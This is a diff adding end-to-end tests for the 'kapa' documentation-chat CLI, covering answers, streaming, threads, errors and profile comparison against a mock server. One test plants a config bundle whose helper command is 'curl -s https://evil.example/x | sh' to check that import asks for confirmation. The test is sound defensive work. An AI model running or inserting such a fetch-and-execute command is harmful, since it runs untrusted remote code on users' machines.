@@ -0,0 +1,174 @@
+import test from 'node:test';
+import assert from 'node:assert/strict';
+import { spawn } from 'node:child_process';
+import os from 'node:os';
+import path from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
+
+const { startMockServer } = await import('./mock-server.js');
+
+const CLI_ENTRY = fileURLToPath(new URL('./index.ts', import.meta.url));
+const sandbox = await mkdtemp(path.join(os.tmpdir(), 'kapa-e2e-'));
+
+const CLI_ENV: NodeJS.ProcessEnv = {
+  PATH: process.env.PATH,
+  HOME: sandbox,
+  NO_COLOR: '1',
+  KAPA_CONFIG_DIR: path.join(sandbox, 'config'),
+  KAPA_DATA_DIR: path.join(sandbox, 'data'),
+  KAPA_HISTORY_KEY: 'e2e-secret',
+  KAPA_API_KEY: 'sk-e2e',
+};
+
+interface CliRun {
+  code: number | null;
+  stdout: string;
+  stderr: string;
+}
+
+/** Runs the CLI from source in a child process; the mock server keeps serving in this one. */
+function runCli(args: string[], env: NodeJS.ProcessEnv = {}): Promise<CliRun> {
+  return new Promise((resolve, reject) => {
+    const child = spawn(process.execPath, ['--import', 'tsx', CLI_ENTRY, ...args], {
+      env: { ...CLI_ENV, ...env },
+      stdio: ['ignore', 'pipe', 'pipe'],
+    });
+    let stdout = '';
+    let stderr = '';
+    child.stdout.on('data', (chunk) => (stdout += chunk));
+    child.stderr.on('data', (chunk) => (stderr += chunk));
+    const timer = setTimeout(() => child.kill(), 30_000);
+    child.on('error', reject);
+    child.on('close', (code) => {
+      clearTimeout(timer);
+      resolve({ code, stdout, stderr });
+    });
+  });
+}
+
+const connection = (url: string) => ['--base-url', url, '--project', 'demo', '--integration', 'cli'];
+
+test('prints a scripted answer with follow-ups and citations', async () => {
+  const server = await startMockServer({
+    script: [
+      {
+        answer: 'Use `kapa config set apiKey` to store a key.',
+        sources: [{ title: 'Config guide', source_url: 'https://docs.example.com/config' }],
+        followUps: ['How do I switch profiles?'],
+      },
+    ],
+  });
+  try {
+    const run = await runCli([...connection(server.url), '--no-stream', 'how do I store a key?']);
+
+    assert.equal(run.code, 0, run.stderr);
+    assert.match(run.stdout, /Use kapa config set apiKey to store a key\./);
+    assert.match(run.stdout, /How do I switch profiles\?/);
+    assert.match(run.stdout, /Config guide/);
+    assert.match(run.stderr, /Thread ID: mock-thread-1/);
+
+    const [request] = server.requests;
+    assert.equal(request.path, '/projects/demo/chat/');
+    assert.equal(request.headers['x-api-key'], 'sk-e2e');
+    assert.deepEqual(request.body, { integration_id: 'cli', query: 'how do I store a key?' });
+  } finally {
+    await server.close();
+  }
+});
+
+test('streams an answer, resumes the thread and shows it', async () => {
+  const server = await startMockServer({
+    script: [{ answer: 'First streamed answer.' }, { answer: 'Second streamed answer.' }],
+  });
+  try {
+    const first = await runCli([...connection(server.url), '--stream', 'first question']);
+    assert.equal(first.code, 0, first.stderr);
+    assert.match(first.stdout, /First streamed answer\./);
+
+    const second = await runCli([...connection(server.url), '--stream', '--resume', 'last', 'second question']);
+    assert.equal(second.code, 0, second.stderr);
+    assert.match(second.stdout, /Second streamed answer\./);
+    assert.equal(server.requests[1].path, '/threads/mock-thread-1/chat/');
+
+    const shown = await runCli(['thread', 'show', '--base-url', server.url]);
+    assert.equal(shown.code, 0, shown.stderr);
+    assert.match(shown.stdout, /#1[\s\S]*first question[\s\S]*#2[\s\S]*second question/);
+  } finally {
+    await server.close();
+  }
+});
+
+test('API and stream errors exit non-zero with a readable message', async () => {
+  const server = await startMockServer({
+    script: [
+      { status: 403, body: { detail: 'Project access denied.' } },
+      { answer: 'This answer is cut short by the mock.', streamError: 'upstream model failed' },
+    ],
+  });
+  try {
+    const rejected = await runCli([...connection(server.url), '--no-stream', 'hello']);
+    assert.equal(rejected.code, 1);
+    assert.match(rejected.stderr, /Kapa API error 403: .*Project access denied/);
+
+    const broken = await runCli([...connection(server.url), '--stream', 'hello']);
+    assert.equal(broken.code, 1);
+    assert.match(broken.stdout, /This answer/);
+    assert.match(broken.stderr, /Kapa stream error: upstream model failed/);
+
+    const badFlag = await runCli(['--log-level', 'loud', 'history']);
+    assert.equal(badFlag.code, 1);
+    assert.equal(badFlag.stderr, 'Error: --log-level must be one of silent, error, warn, info, debug, trace.\n');
+  } finally {
+    await server.close();
+  }
+});
+
+test('config import never installs a helper command without confirmation', async () => {
+  const bundle = path.join(sandbox, 'shared-profile.json');
+  await writeFile(
+    bundle,
+    JSON.stringify({
+      kapaConfigExport: 1,
+      sealed: false,
+      profiles: { shared: { projectId: 'demo', apiKeyCommand: 'curl -s https://evil.example/x | sh' } },
+    }),
+  );
+
+  const refused = await runCli(['config', 'import', bundle]);
+  assert.equal(refused.code, 1);
+  assert.match(refused.stdout, /! apiKeyCommand\s+curl -s https:\/\/evil\.example\/x \| sh/);
+  assert.match(refused.stderr, /set 1 helper command or connection setting\(s\).*--yes/);
+  await assert.rejects(readFile(path.join(sandbox, 'config', 'config.json'), 'utf8'), { code: 'ENOENT' });
+
+  const accepted = await runCli(['config', 'import', bundle, '--yes']);
+  assert.equal(accepted.code, 0, accepted.stderr);
+  const stored = JSON.parse(await readFile(path.join(sandbox, 'config', 'config.json'), 'utf8'));
+  assert.equal(stored.profiles.shared.apiKeyCommand, 'curl -s https://evil.example/x | sh');
+});
+
+test('compare asks each stored profile even when KAPA_* overrides are set', async () => {
+  const server = await startMockServer({ apiKey: 'sk-stored' });
+  try {
+    const profile = (projectId: string) => ({
+      apiKey: 'sk-stored',
+      projectId,
+      integrationId: 'cli',
+      baseUrl: server.url,
+    });
+    await writeFile(
+      path.join(sandbox, 'config', 'config.json'),
+      JSON.stringify({ profiles: { public: profile('public-docs'), internal: profile('internal-docs') } }),
+    );
+
+    // CLI_ENV also sets KAPA_API_KEY, which the mock server would reject.
+    const run = await runCli(['compare', '--profiles', 'public,internal', '--json', 'What is a thread?'], {
+      KAPA_PROJECT_ID: 'env-project',
+    });
+    assert.equal(run.code, 0, run.stderr);
+    const chatPaths = server.requests.map((request) => request.path).sort();
+    assert.deepEqual(chatPaths, ['/projects/internal-docs/chat/', '/projects/public-docs/chat/']);
+  } finally {
+    await server.close();
+  }
+});